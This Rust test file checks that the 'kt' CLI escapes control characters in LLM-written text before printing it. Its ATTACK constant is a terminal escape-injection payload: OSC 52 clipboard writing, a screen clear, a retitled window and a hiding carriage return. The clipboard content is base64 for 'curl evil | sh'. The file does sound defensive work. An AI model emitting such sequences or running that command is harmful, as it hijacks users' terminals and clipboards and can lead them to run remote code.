//! End-to-end: text an LLM wrote reaches the terminal with its control characters escaped (issue 45). Scripted
//! answers carry OSC 52 (sets the clipboard), a screen clear, a window title and a carriage return (hides what
//! was printed before it); what `kt llm ask` (on a terminal), `kt analyze` and a failing `kt transform` print must show them as
//! text (`\x1b`), never raw. No GPU, no LLM service.

#![allow(clippy::unwrap_used)]

use std::path::Path;

mod support;
use support::{kt_command, output, text};

/// TOML's escapes for the attack: `\u001b]52;c;…\u0007` etc. (so the script file itself is plain text).
const ATTACK: &str =
    r"\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]0;owned\u0007\rcovered";

/// The raw control characters that must not reach the terminal (newline and tab are fine).
fn raw_controls(printed: &str) -> Vec<String> {
    printed
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t') || ('\u{202a}'..='\u{202e}').contains(c)
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

fn assert_escaped(what: &str, printed: &str) {
    assert!(
        raw_controls(printed).is_empty(),
        "{what} printed raw control characters {:?}: {printed:?}",
        raw_controls(printed)
    );
    assert!(
        printed.contains(r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07") && printed.contains(r"\x0dcovered"),
        "{what} did not show the answer's escape sequences as text: {printed:?}"
    );
}

fn kt_in(dir: &Path, args: &[&str]) -> std::process::Output {
    output(kt_command(dir).args(args))
}

fn script(dir: &Path, answers: &[(&str, String)]) -> String {
    let text: String = answers
        .iter()
        .map(|(node, answer)| format!("[[answers]]\nnode = \"{node}\"\ntext = \"{answer}\"\n"))
        .collect();
    let path = dir.join("answers.toml");
    std::fs::write(&path, text).unwrap();
    format!("scripted:{}", path.display())
}

/// `kt args` on a terminal (a pseudo-terminal from util-linux's `script`): what a person would see, with the
/// terminal's own CR LF line ends made plain newlines again.
fn kt_on_a_terminal(home: &Path, args: &[&str]) -> (bool, String) {
    let kt = kt_command(home);
    let line: Vec<String> = std::iter::once(kt.get_program())
        .chain(kt.get_args())
        .chain(args.iter().map(std::ffi::OsStr::new))
        .map(|a| format!("'{}'", a.to_string_lossy().replace('\'', r"'\''")))
        .collect();
    let mut script = std::process::Command::new("script");
    script.args(["-qec", &line.join(" "), "/dev/null"]);
    if let Some(dir) = kt.get_current_dir() {
        script.current_dir(dir);
    }
    for (key, value) in kt.get_envs() {
        match value {
            Some(v) => script.env(key, v),
            None => script.env_remove(key),
        };
    }
    let out = script
        .output()
        .expect("util-linux's `script` runs kt on a pseudo-terminal");
    (
        out.status.success(),
        text(&out.stdout).replace("\r\n", "\n"),
    )
}

#[test]
fn an_answer_printed_by_llm_ask_on_a_terminal_shows_its_escape_sequences_as_text() {
    let home = tempfile::tempdir().unwrap();
    let spec = script(home.path(), &[("ask", format!("forty-two {ATTACK}"))]);
    let (ok, printed) = kt_on_a_terminal(home.path(), &["llm", "ask", "--llm", &spec, "6*7?"]);
    assert!(ok, "{printed}");
    assert_escaped("kt llm ask", &printed);
    // piped, the answer is kept as it is (for scripts): only a terminal gets the escapes
    let out = kt_in(home.path(), &["llm", "ask", "--llm", &spec, "6*7?"]);
    assert!(
        text(&out.stdout).contains("\u{1b}]52"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn a_kernel_description_printed_by_analyze_shows_its_escape_sequences_as_text() {
    let home = tempfile::tempdir().unwrap();
    let spec = script(
        home.path(),
        &[
            (
                "stage1.describe",
                format!(
                    r#"{{\"description\": \"c = a + b {}\"}}"#,
                    ATTACK.replace('\\', "\\\\")
                ),
            ),
            ("stage1.dimensions", r#"{\"dimensions\": 1}"#.into()),
            ("stage1.problem_size", r#"{\"dimensions\": [\"n\"]}"#.into()),
            ("stage1.outputs", r#"{\"outputs\": [\"c\"]}"#.into()),
        ],
    );
    let out = kt_in(
        home.path(),
        &["analyze", "naive-kernels/vectorAdd.cu", "--llm", &spec],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("computes     c = a + b"), "{stdout}");
    assert_escaped("kt analyze", &stdout);
}

#[test]
fn an_unusable_answer_quoted_in_transforms_error_and_log_shows_its_escape_sequences_as_text() {
    let home = tempfile::tempdir().unwrap();
    // not JSON: every try fails to parse, the log warns with the parse error, the error quotes the answer
    let junk = format!("no JSON here {ATTACK}");
    let answers: Vec<(&str, String)> = (0..4).map(|_| ("stage1.describe", junk.clone())).collect();
    let spec = script(home.path(), &answers);
    let out = kt_in(
        home.path(),
        &[
            "transform",
            "naive-kernels/vectorAdd.cu",
            "--llm",
            &spec,
            "--out",
            home.path().join("runs").to_str().unwrap(),
        ],
    );
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert_escaped("kt transform", &stderr);
    assert!(
        raw_controls(&text(&out.stdout)).is_empty(),
        "{}",
        text(&out.stdout)
    );
}
